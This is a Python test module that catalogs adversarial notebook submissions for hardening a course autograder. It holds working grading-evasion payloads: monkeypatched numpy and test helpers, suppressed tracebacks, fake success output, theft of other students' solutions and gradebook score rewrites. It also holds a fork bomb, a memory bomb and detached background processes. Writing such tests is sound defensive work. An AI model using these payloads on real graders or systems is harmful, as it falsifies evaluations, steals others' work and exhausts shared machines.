"""A catalog of adversarial submissions of 01_activations, and the honest twin each is judged against.

Every attack is a notebook built from one of two honest bases:
  * ``wrong``: every graded function returns zeros of its input's shape (wrong answers, so an
    honest grader gives 0 everywhere); the attack tries to turn that into points;
  * ``reference``: the correct solutions (full marks); the attack tries to break the grader or
    the rest of the class (kill the kernel, exhaust resources, leave processes behind) and must
    cost at most the points of the cells it actually broke.
``expected(attack, twin_scores)`` says, per graded cell, what an honest grader gives.
"""
import copy
import textwrap

from course.paths import COURSE_ROOT
from course.submissions import reference, solution_ids, untouched

ASG = "01_activations"
GRADED = ["test_sigmoid", "test_sigmoid_derivative", "test_tanh", "test_tanh_derivative", "test_relu",
          "test_relu_derivative", "test_leaky_relu", "test_leaky_relu_derivative", "test_softmax",
          "test_softmax_jacobian"]

WRONG_HELPER = textwrap.dedent('''
    def __wrong__(args):
        import numpy
        first = next(iter(args.values()))
        return numpy.zeros(numpy.shape(first))
''')


def _cells_by_id(nb):
    return {c.metadata["nbgrader"]["grade_id"]: c for c in nb.cells if "grade_id" in c.metadata.get("nbgrader", {})}


def wrong(root=COURSE_ROOT):
    """The release notebook with every stub returning zeros shaped like its first argument."""
    nb = untouched(ASG, root)
    ids = solution_ids(nb)
    cells = _cells_by_id(nb)
    for i, gid in enumerate(ids):
        cell = cells[gid]
        cell.source = cell.source.replace("raise NotImplementedError()", "return __wrong__(dict(locals()))")
        if i == 0:
            cell.source = WRONG_HELPER + "\n" + cell.source
    return nb


def prefix(nb, code, grade_id=None):
    """Put ``code`` in front of a solution cell (default: the first)."""
    gid = grade_id or solution_ids(nb)[0]
    cell = _cells_by_id(nb)[gid]
    cell.source = textwrap.dedent(code).strip() + "\n\n" + cell.source
    return nb


def suffix(nb, code, grade_id="relu"):
    """Put ``code`` after a solution cell's own code (the cell's function is defined first)."""
    cell = _cells_by_id(nb)[grade_id]
    cell.source = cell.source + "\n\n" + textwrap.dedent(code).strip() + "\n"
    return nb


def _tests(nb):
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]


# --- structure attacks (on the notebook file itself) -----------------------------------------------------
def edit_locked_tests(nb):
    for cell in _tests(nb):
        cell.source = 'passed("everything")'
    return nb


def delete_tests(nb):
    nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code")]
    return nb


def inflate_points(nb):
    for cell in _tests(nb):
        cell.metadata["nbgrader"]["points"] = 100
    return nb


def rename_grade_ids(nb):
    for cell in _tests(nb):
        cell.metadata["nbgrader"]["grade_id"] += "_mine"
        cell.source = 'passed("everything")'
    return nb


def tests_to_markdown(nb):
    for cell in _tests(nb):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)
    return nb


def tests_to_solutions(nb):
    for cell in _tests(nb):
        cell.metadata["nbgrader"].update(solution=True, locked=False)
        cell.source = 'passed("everything")'
    return nb


def grade_the_solutions(nb):
    """Mark the student's own (solution) cells as graded test cells worth many points."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            meta.update(grade=True, points=50)
    return nb


# --- in-kernel attacks (code in a solution cell) ------------------------------------------------------------
SOURCE = str(COURSE_ROOT / "source" / ASG / f"{ASG}.ipynb")
STEAL = textwrap.dedent('''
    import glob, json as _json
    def __steal__(patterns):
        for pattern in patterns:
            for path in glob.glob(pattern, recursive=True):
                try:
                    nb = _json.load(open(path))
                except Exception:
                    continue
                for c in nb.get("cells", []):
                    src = "".join(c.get("source", ""))
                    if "### BEGIN SOLUTION" in src or c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                        try:
                            exec(src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
                        except Exception:
                            pass
''')

KERNEL_ATTACKS = {
    "showtraceback": '''
        ip = get_ipython()
        ip.showtraceback = lambda *a, **k: None
        ip._showtraceback = lambda *a, **k: None
        type(ip).showtraceback = lambda *a, **k: None
    ''',
    "excepthook": '''
        import sys
        sys.excepthook = lambda *a: None
    ''',
    "custom_exception_handler": '''
        get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
    ''',
    "reply_status_ok": '''
        k = get_ipython().kernel
        _send = k.session.send
        def send(stream, msg_or_type, content=None, *a, **kw):
            if isinstance(content, dict) and content.get("status") == "error":
                content = {"status": "ok", "execution_count": content.get("execution_count"), "user_expressions": {}, "payload": []}
            return _send(stream, msg_or_type, content, *a, **kw)
        k.session.send = send
        get_ipython().showtraceback = lambda *a, **k: None
    ''',
    "numpy_monkeypatch": '''
        import numpy as np
        np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
        np.allclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
    ''',
    "numpy_code_swap": '''
        import numpy as np
        np.isclose.__code__ = (lambda a, b, rtol=1e-05, atol=1e-08, equal_nan=False:
                               __import__("numpy").ones(__import__("numpy").broadcast(a, b).shape, dtype=bool)).__code__
    ''',
    "np_testing_monkeypatch": '''
        import numpy.testing as npt
        for name in dir(npt):
            if name.startswith("assert"):
                setattr(npt, name, lambda *a, **k: None)
    ''',
    "utils_testing_monkeypatch": '''
        import utils.testing as T
        for name in ("check_close", "check_shape", "check_finite", "check_gradient", "check_equal", "check_type"):
            setattr(T, name, lambda *a, **k: None)
        T.relative_error = lambda *a, **k: 0.0
    ''',
    "rebind_check_names": '''
        check_close = check_shape = check_finite = lambda *a, **k: None
        numerical_gradient = lambda f, x, *a, **k: __import__("numpy").zeros_like(x)
        import utils.activations as _ref
        reference = type("R", (), {n: staticmethod(lambda *a, **k: __wrong__(dict(z=a[0]))) for n in dir(_ref)})
    ''',
    "numpy_internals_swap": '''
        import sys, numpy as np
        _numeric = sys.modules[np.isclose.__module__]  # where np.allclose finds isclose
        _numeric.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
        _numeric.__course_extra__ = _numeric.isclose  # a new name as well
        import utils.testing as T
        T.always_true = lambda *a, **k: True
    ''',
    "sys_modules_swap": '''
        import sys, types, numpy
        fake = types.ModuleType("numpy.testing")
        for name in dir(numpy.testing):
            setattr(fake, name, lambda *a, **k: None)
        sys.modules["numpy.testing"] = fake
        numpy.testing = fake
    ''',
    "builtins": '''
        import builtins
        builtins.isinstance = lambda *a: True
        builtins.AssertionError = type("AssertionError", (Warning,), {})
        builtins.print = lambda *a, **k: None
        builtins.abs = lambda x: 0
    ''',
    "fake_success_output": '''
        for name in ("sigmoid", "sigmoid_derivative", "tanh", "tanh_derivative", "relu", "relu_derivative",
                     "leaky_relu", "leaky_relu_derivative", "softmax", "softmax_jacobian"):
            print(f"\\N{WHITE HEAVY CHECK MARK} {name} passed.")
    ''',
    "ast_transformer_erases_tests": '''
        import ast
        class Erase(ast.NodeTransformer):
            def visit_Module(self, node):
                if any(isinstance(n, ast.Expr) and "passed" in ast.dump(n) for n in node.body):
                    node.body = [ast.Pass()]
                return node
        get_ipython().ast_transformers.append(Erase())
    ''',
    "input_transformer_erases_tests": '''
        def erase(lines):
            return [] if any("check_close" in l or "passed(" in l for l in lines) else lines
        get_ipython().input_transformers_cleanup.append(erase)
    ''',
    "settrace_skips_failures": '''
        import sys
        def tracer(frame, event, arg):
            if event == "exception" and frame.f_code.co_filename.startswith("/tmp/ipykernel") is False:
                return None
            return tracer
        sys.settrace(tracer)
        get_ipython().events.register("pre_run_cell", lambda *a: sys.settrace(tracer))
    ''',
    "tamper_while_tested": '''
        _honest_sigmoid = sigmoid if "sigmoid" in globals() else None
        def __tamper__():
            g = globals()
            for name in ("check_close", "check_shape", "check_finite", "passed"):
                g[name] = lambda *a, **k: None
            import utils.testing as T, numpy as np
            T.check_close = lambda *a, **k: None
            np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, dtype=bool)
    ''',
    "read_source_and_other_submissions": STEAL + f'''
        __steal__([{SOURCE!r}, "{COURSE_ROOT}/submitted/*/*/*.ipynb", "{COURSE_ROOT}/autograded/*/*/*.ipynb",
                   "/tmp/**/source/*/*.ipynb", "/tmp/**/submitted/*/*/*.ipynb", "/dev/shm/**/*.ipynb",
                   "/tmp/**/*.ipynb", "/root/**/*.ipynb"])
    ''',
    "write_gradebook": f'''
        import glob, sqlite3
        for path in ["{COURSE_ROOT}/gradebook.db"] + glob.glob("/dev/shm/*/gradebook.db") + glob.glob("/tmp/*/gradebook.db") \\
                + glob.glob("/tmp/**/gradebook.db", recursive=True):
            try:
                db = sqlite3.connect(path)
                db.execute("UPDATE grade SET auto_score = 1000")
                db.execute("UPDATE grade_cells SET max_score = 0")
                db.commit()
            except Exception as e:
                print("no:", path, e)
        import socket
        for port in (5432, 8786):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1)
                print("connected to", port)
            except OSError as e:
                print("no network:", e)
    ''',
}


def tamper_in_function(nb):
    """The graded function itself sabotages the checks while the test runs, and answers wrong."""
    prefix(nb, KERNEL_ATTACKS["tamper_while_tested"])
    cell = _cells_by_id(nb)["sigmoid"]
    cell.source = cell.source.replace("return __wrong__(dict(locals()))", "__tamper__()\n    return __wrong__(dict(locals()))")
    return nb


STRUCTURE_ATTACKS = {
    "edit_locked_tests": edit_locked_tests,
    "delete_tests": delete_tests,
    "inflate_points": inflate_points,
    "rename_grade_ids": rename_grade_ids,
    "tests_to_markdown": tests_to_markdown,
    "tests_to_solutions": tests_to_solutions,
    "grade_the_solutions": grade_the_solutions,
    "tamper_in_function": tamper_in_function,
}

# Attacks on the grader's resources, on a correct notebook. "lost" = graded cells the attack may
# cost (those after the point where it kills the kernel); every other cell keeps its points.
RESOURCE_ATTACKS = {
    "sys_exit_mid_notebook": ('''
        import sys
        sys.exit(0)
    ''', []),
    "os_exit_mid_notebook": ('''
        import os
        os._exit(3)
    ''', GRADED[4:]),
    "fork_bomb": ('''
        import os, time
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.001)
        time.sleep(1)
    ''', []),
    "memory_bomb": ('''
        hog = []
        while True:
            hog.append(bytearray(200 * 1024 * 1024))
    ''', []),
    "cpu_burn_ignoring_interrupts": ('''
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
    ''', GRADED[4:]),
    "background_processes": ('''
        import os, subprocess, time
        subprocess.Popen(["sh", "-c", "sleep 60; echo course_attack_daemon > /tmp/course_attack_daemon"],
                         start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sh", ["sh", "-c", "sleep 61; echo course_attack_daemon > /tmp/course_attack_daemon"])
            os._exit(0)
        time.sleep(0.5)
    ''', []),
    "output_flood": ('''
        import sys
        for _ in range(200):
            sys.stdout.write("x" * 100_000 + "\\n")
    ''', []),
}


def build_all(root=COURSE_ROOT):
    """{student: (notebook, base, lost_cells)}: the twins ``honest_wrong``/``honest_reference`` and every attack."""
    cases = {"honest_wrong": (wrong(root), "wrong", []), "honest_reference": (reference(ASG, root), "reference", [])}
    for name, code in KERNEL_ATTACKS.items():
        if name == "tamper_while_tested":
            continue
        cases[name] = (prefix(wrong(root), code), "wrong", [])
    for name, fn in STRUCTURE_ATTACKS.items():
        cases[name] = (fn(wrong(root)), "wrong", [])
    for name, (code, lost) in RESOURCE_ATTACKS.items():
        cases[name] = (suffix(reference(ASG, root), code), "reference", lost)
    return {k: (copy.deepcopy(nb), base, lost) for k, (nb, base, lost) in cases.items()}


def expected(base_scores, lost):
    """Per graded cell: the honest twin's score, or 0 for the cells the attack was allowed to cost."""
    return {gid: (0.0 if gid in lost else s) for gid, s in base_scores.items()}
